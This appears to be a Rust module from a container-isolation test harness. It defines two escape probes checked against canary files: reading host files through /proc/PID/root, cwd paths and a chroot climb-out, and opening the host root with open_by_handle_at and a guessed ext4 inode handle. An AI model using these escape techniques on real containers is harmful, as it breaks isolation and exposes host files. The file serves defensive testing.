//! The host's files, from a container that has files of its own.

use crate::attack::{Attack, Verdict, Walls};
use crate::bundle::Bundle;
use crate::canary::Canaries;
use crate::field::Field;
use crate::machine_code::{Arg, KNOWN, Program};
use crate::trouble::Trouble;

pub const THROUGH_PROC: Attack = Attack {
    name: "host's files through /proc/PID/root",
    cve: "",
    tries: "The container looks for the host's files through the roots and working directories of all \
            processes that it sees, and by climbing out with chroot.",
    attempt: through_proc,
};

pub const BY_HANDLE: Attack = Attack {
    name: "host's files by their handles",
    cve: "",
    tries: "The container opens the root of the file system that its own root lies on by guessing its handle.",
    attempt: by_handle,
};

fn through_proc(field: &Field, walls: Walls) -> Result<Verdict, Trouble> {
    let canaries = Canaries::put(&field.make_dir("canaries")?, &[])?;
    let mut bundle = Bundle::image(field, walls)?;
    if walls == Walls::Down {
        bundle.bind("/".as_ref(), "/tmp", &["rbind", "rw"]);
        bundle.script(&format!("cd /tmp; {}", look(&canaries)));
        return field.run(&bundle)?.ended()?.reached().map(Verdict::of);
    }
    bundle.script(&look(&canaries));
    field.run(&bundle)?.ended()?.reached().map(Verdict::of)
}

fn look(canaries: &Canaries) -> String {
    format!(
        "s={secret}
        for top in /proc/[0-9]*/root /proc/[0-9]*/cwd /proc/self/root/.. /proc/1/root/proc/1/root \
            /proc/1/task/1/root .. ../../../../../../../..; do
            [ -r $top$s ] && echo \"! read $(cat $top$s) through $top\"
        done
        mkdir -p /jail
        chroot /jail /bin/sh -c true 2>/dev/null
        true",
        secret = canaries.secret().display()
    )
}

/// The inode of the root of ext4 is 2; a handle of type 1 is an inode and its generation.
fn by_handle(field: &Field, walls: Walls) -> Result<Verdict, Trouble> {
    if !KNOWN {
        return Ok(Verdict::NotApplicable(
            "no programs are made for this machine".to_owned(),
        ));
    }
    let mut program = Program::default();
    let number = |n: i64| Arg::Number(n as u64);
    let here = number(i64::from(libc::AT_FDCWD));
    let root = program.call(
        libc::SYS_openat,
        vec![here, Arg::Bytes(b"/".to_vec()), number(0), number(0)],
    );
    // struct file_handle: bytes, type, then inode and generation.
    let words = [8_u32, 1, 2, 0];
    let handle = words.iter().flat_map(|word| word.to_ne_bytes()).collect();
    let opened = program.call(
        libc::SYS_open_by_handle_at,
        vec![Arg::Result(root), Arg::Bytes(handle), number(0)],
    );
    let mut bundle = Bundle::image(field, walls)?;
    bundle.program(&program)?;
    let ended = field.run(&bundle)?.ended()?;
    let results = program.results(&ended.output);
    let results = results.ok_or_else(|| Trouble::CutShort(ended.text()))?;
    let refused = [libc::EPERM, libc::ENOSYS].map(|errno| -i64::from(errno));
    let result = results[opened];
    let reached = match refused.contains(&result) {
        true => Vec::new(),
        false => vec![format!("open_by_handle_at was let through: {result}")],
    };
    Ok(Verdict::of(reached))
}
